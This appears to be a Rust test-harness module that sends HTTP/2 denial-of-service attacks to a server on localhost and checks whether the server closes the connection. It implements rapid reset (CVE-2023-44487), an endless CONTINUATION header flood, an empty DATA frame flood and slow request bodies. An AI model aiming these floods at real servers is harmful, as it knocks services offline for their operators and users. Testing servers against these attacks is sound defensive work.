//! Attacks on an HTTP server, by hand: each returns when the server has ended it, or when time is
//! up.

use std::io::{Read, Write};
use std::net::TcpStream;
use std::time::Duration;

use harness::h2::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, Frame, HEADERS, PREFACE, RESET, SETTINGS,
};
use harness::now;

/// `:method POST`, `:scheme http`, `:path /`, `:authority x`, by numbers of the static table.
const REQUEST: &[u8] = &[0x83, 0x86, 0x84, 0x01, 1, b'x'];

/// `:method POST`, `:scheme http`, and a literal `:path` of 11 bytes.
const POST: &[u8] = &[0x83, 0x86, 0x04, 11];

/// What a well-behaved client says first in HTTP/2.
pub fn beginning() -> Vec<u8> {
    [PREFACE, &Frame::new(SETTINGS, 0, 0, b"").encode()].concat()
}

/// So many batches of which a single byte comes, and the rest later.
pub fn slow_bodies(count: u32) -> Vec<u8> {
    let head = [POST, b"/v1/batches", &[0x01, 1, b'x']].concat();
    let begun = (0..count).flat_map(|number| {
        let stream = 1 + 2 * number;
        let ask = Frame::new(HEADERS, END_HEADERS, stream, &head);
        [ask.encode(), Frame::new(DATA, 0, stream, b"x").encode()]
    });
    begun.collect::<Vec<_>>().concat()
}

/// A connection that has begun well, in HTTP/2.
pub fn polite(port: u16) -> std::io::Result<TcpStream> {
    let mut stream = TcpStream::connect(("127.0.0.1", port))?;
    stream.set_write_timeout(Some(Duration::from_secs(5)))?;
    stream.set_read_timeout(Some(Duration::from_millis(1)))?;
    stream.write_all(&beginning())?;
    Ok(stream)
}

/// Requests that are taken back at once, again and again (CVE-2023-44487).
pub fn rapid_reset(port: u16, seconds: u64) -> bool {
    let mut stream = 1;
    flood(port, seconds, || {
        let pairs = (0..100).flat_map(|pair| {
            let stream = stream + 2 * pair;
            let ask = Frame::new(HEADERS, END_HEADERS | END_STREAM, stream, REQUEST).encode();
            [ask, Frame::new(RESET, 0, stream, &8_u32.to_be_bytes()).encode()]
        });
        let pairs: Vec<Vec<u8>> = pairs.collect();
        stream += 200;
        pairs.concat()
    })
}

/// A request whose body is an endless row of nothing.
pub fn empty_data(port: u16, seconds: u64) -> bool {
    let mut is_begun = false;
    flood(port, seconds, || {
        let begin = if is_begun {
            Vec::new()
        } else {
            Frame::new(HEADERS, END_HEADERS, 1, REQUEST).encode()
        };
        is_begun = true;
        [begin, Frame::new(DATA, 0, 1, b"").encode().repeat(100)].concat()
    })
}

/// A header that never ends (VU#421644).
pub fn continuation(port: u16, seconds: u64) -> bool {
    // A literal that is not remembered: name "a", value of 100 bytes.
    let field = [&[0x00, 1, b'a', 100][..], &[b'v'; 100]].concat();
    let mut is_begun = false;
    flood(port, seconds, || {
        let begin = if is_begun { Vec::new() } else { Frame::new(HEADERS, 0, 1, REQUEST).encode() };
        is_begun = true;
        [begin, Frame::new(CONTINUATION, 0, 1, &field.repeat(100)).encode()].concat()
    })
}

/// Sends what `next` gives until the server ends the connection (true) or time is up.
fn flood(port: u16, seconds: u64, mut next: impl FnMut() -> Vec<u8>) -> bool {
    let Ok(mut stream) = polite(port) else { return true };
    let begun = now();
    let mut heard = [0; 16 << 10];
    while begun.elapsed() < Duration::from_secs(seconds) {
        if stream.write_all(&next()).is_err() {
            return true;
        }
        match stream.read(&mut heard) {
            Ok(0) => return true,
            Ok(_) => {}
            Err(e) if matches!(e.kind(), std::io::ErrorKind::WouldBlock) => {}
            Err(_) => return true,
        }
    }
    false
}

/// Whether the other side has ended this connection.
pub fn is_ended(stream: &mut TcpStream) -> bool {
    let mut bytes = [0; 4 << 10];
    loop {
        match stream.read(&mut bytes) {
            Ok(0) => return true,
            Ok(_) => {}
            Err(e) => return e.kind() != std::io::ErrorKind::WouldBlock,
        }
    }
}
